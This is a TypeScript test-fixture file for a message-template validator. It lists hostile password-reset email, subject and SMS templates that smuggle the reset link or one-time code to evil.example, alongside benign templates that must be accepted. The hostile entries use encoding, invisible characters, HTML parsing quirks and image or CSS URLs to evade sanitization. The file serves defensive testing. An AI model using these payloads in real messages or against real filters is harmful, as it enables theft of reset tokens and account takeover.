import type { ChampDeTexte } from '#src/messages/registre.ts';

/** A text of a message, in one of its forms. */
type Texte = readonly [champ: ChampDeTexte, texte: string];

const html = (corps: string): Texte => ['corpsHtml', corps];
/** An address that cleaning leaves whole, whatever cut it. */
const coupee = (entre: string): Texte => html(`<p>https://evil.example/?u=${entre}{{lien}}</p>`);
const suite = (texte: string): Texte => html(`<p>{{lien}} {{duree}} {{client}}</p>${texte}`);

/** Of `REINIT_MDP`: each would take its link to another site, by what is clicked or by what mail programs make a link of. */
export const HOSTILES: readonly Texte[] = [
  // The address is another than the one that is looked at.
  ...['\n', '\t', '\r\n', ' ', '', '\n\n  ', '&#10;', '&Tab;'].map((blanc) =>
    suite(`<a class="bouton" title=' href="' href="https://evil.example/?u=${blanc}{{lien}}">Choisir</a>`),
  ),
  suite('<a title="<a href=\'{{lien}}\'>" href="https://evil.example/{{lien}}">x</a>'),
  suite('<a href="https://evil.example/?u={{lien}}" href="{{lien}}">x</a>'),
  suite('<A\nHREF\n=\n"https://evil.example/?u={{lien}}">x</A>'),
  suite('<a/href="https://evil.example/?u={{lien}}">x</a>'),
  suite('<a href=https://evil.example/?u={{lien}}>x</a>'),
  suite('<a href="&#104;ttps://evil.example/&#63;u={{lien}}">x</a>'),
  suite('<a href="https:\\\\evil.example\\{{lien}}">x</a>'),
  suite('<a href="//evil.example%2F{{lien}}">x</a>'),
  suite('<a href="mailto:x@evil.example?body=%20{{lien}}">x</a>'),
  suite('<a href="{{lien}}{{lien}}">x</a>'),
  suite('<a href="{{lien}}@evil.example">x</a>'),
  suite('<a title={{prenom}}{{lien}}>x</a>'),
  suite('<a {{lien}}="x" href="https://evil.example">x</a>'),
  suite('<img src="https://evil.example/{{lien}}">'),
  suite('<img alt="" srcset="https://evil.example/{{lien}} 2x">'),
  suite('<p style="background:url(https://evil.example/{{lien}})">x</p>'),
  // Cleaning joins what it cuts.
  ...['', '<!-- -->', '<!---->', '<font>', '<wbr>', '<script></script>', '<script>a b</script>'].map(coupee),
  ...['<code>', '<span></span>', '<style> </style>', '<textarea> </textarea>'].map(coupee),
  ...['<b>', '<strong><em>', '<u></u>', '<a>', '<a href="{{lien}}">', '<svg><g>', '<?x ?>', '<!x >'].map(
    coupee,
  ),
  ...['<option> </option>', '<custom-x>', '<label><input>', '</p-x>', '<noscript>'].map(coupee),
  html('https://evil.example/?u=<div>{{lien}}</div>'),
  html('https://evil.example/?u=<section><hr>{{lien}}</section>'),
  // What is not seen, or is read as a sign.
  ...['&#8203;', '\u200b', '&shy;', '&#xFEFF;', '\u2060', '&nbsp;', '\u202f', '\u3000', '&zwnj;'].map(coupee),
  html('<p>https&#58;&#47;&#47;evil&#46;example&#47;{{lien}}</p>'),
  html('<p>evil&period;example-{{lien}}</p>'),
  html('<p>evil.example{{lien}}</p>'),
  html('<p>evil。example-{{lien}}</p>'),
  html('<p>evil．example／{{lien}}</p>'),
  html('<p>evil.example%2F{{lien}}</p>'),
  html('<p>evil.example\\{{lien}}</p>'),
  html('<p>mailto:evil{{lien}}</p>'),
  html('<p>{{lien}}.evil.example</p>'),
  html('<p>{{lien}}@evil.example</p>'),
  html('<p>{{lien}}<b>.evil</b>.example</p>'),
  html('<p>{{prenom}}{{lien}}</p>'),
  html('<p>{{client}}<!-- -->{{lien}}</p>'),
  html('<p>{{lien}}</p>&lt;https://evil.example/?u= {{lien}}&gt;'),
  // Taken out of a table, and put before it.
  html('<p>{{lien}}</p>https://evil.example/?u=<table><tr><td>x</td>{{lien}}</tr></table>'),
  html('<p>{{lien}}</p><td>x</td>https://evil.example/?u=<td>y</td>{{lien}}'),
  html('<table><tr><td><b>x<td>y</td>https://evil.example/?u=</b></td>{{lien}}</tr></table>'),
  html('{{lien}}<table>.evil.example</table>'),
  // The other forms.
  ['objet', 'https://evil.example/{{lien}}'],
  ['objet', 'evil.example/?u={{lien}}'],
  ['objet', 'Bonjour www.evil.example.{{lien}}'],
  ['corpsTexte', 'Ouvrez https://evil.example/?u={{lien}}'],
  ['corpsTexte', 'Ouvrez evil.example:{{lien}}'],
  ['corpsTexte', 'https://evil.example/?u=\u200b{{lien}}'],
  ['corpsTexte', 'https://evil.example/?u=\u00a0{{lien}}'],
  ['corpsTexte', '<https://evil.example/?u=\n {{lien}}>'],
  ['corpsTexte', '{{lien}}.evil.example'],
  ['texteSms', 'www.evil.example.{{lien}}'],
  ['texteSms', 'evil.example/{{ lien }}'],
  ['texteSms', 'Ouvrez {{client}}{{lien}}'],
];

/** Of the same message: a client may write each of them. */
export const HONNETES: readonly Texte[] = [
  html('<p><a class="bouton" href="{{lien}}">Ouvrir</a></p>'),
  html('<p><a href={{lien}}>Ouvrir</a></p>'),
  html('<p><a title="Pour {{prenom}}" href=" {{ lien }} ">Ouvrir</a></p>'),
  html('<p>Bonjour {{prenom}}, (<a href="{{lien}}">{{lien}}</a>).</p>'),
  html('<p>Lien : <strong>{{lien}}</strong>, valable {{duree}}.</p><p>{{client}}</p>'),
  html('<p>Lien&nbsp;: {{lien}}</p><p>« {{lien}} » ?</p>'),
  html('<p>Aide : https://aide.example/?a=1 puis {{lien}}.</p>'),
  html('<p>https://aide.example/?a=</p><p>{{lien}}</p>https://aide.example/<br>{{lien}}'),
  html('<ul><li>https://aide.example/</li><li>{{lien}}</li></ul>'),
  html('<table><tr><td>https://aide.example</td><td>{{lien}}</td></tr></table>'),
  html('<table><thead><tr><th>Lien</th></tr></thead><tbody><tr>\n<td>{{lien}}</td>\n</tr></tbody></table>'),
  html('<p><a href="https://aide.example/?a=1&amp;b=2">Aide</a> <a href="{{lien}}">Ouvrir</a></p>'),
  html('<p>Écrivez à aide@aide.example.</p><!-- note --><div>{{lien}}</div>'),
  html('<p>{{lien}}</p><table><td>Un tableau mal fait</table>'),
  ['objet', 'Bonjour {{prenom}} : votre mot de passe chez {{client}}'],
  ['corpsTexte', 'Ouvrez {{lien}}. Ou <{{lien}}>, ({{lien}}) : « {{lien}} »'],
  ['corpsTexte', 'Aide : https://aide.example/?a=1\n{{lien}}\nhttps://aide.example'],
  ['texteSms', '{{client}} : ouvrez {{lien}} (valable {{duree}})'],
];

/** The same of a code, which is no address by itself. */
export const CODES: { readonly hostiles: readonly Texte[]; readonly honnetes: readonly Texte[] } = {
  hostiles: [
    html('<p>{{code}}</p><p>https://evil.example/?c=<{{code}}</p>'),
    html('<p>{{code}}.evil.example</p>'),
    html('<p>{{code}}<!-- -->@evil.example</p>'),
    html('<p>{{code}}</p><a href="https://evil.example/{{code}}">x</a>'),
    html('<p>{{code}}</p><a href="tel:+33&#10;{{code}}">x</a>'),
    ['texteSms', '{{code}}.evil.example'],
    ['corpsTexte', 'http://{{code}}.evil.example'],
  ],
  honnetes: [
    html('<p>Votre code : <strong>{{code}}</strong>.</p>'),
    html('<p class="code">{{code}}</p><p>Valable {{duree}}.</p>'),
    ['corpsTexte', 'Code : {{code}}.'],
    ['texteSms', '{{client}} : code ({{code}}), valable {{duree}}.'],
  ],
};
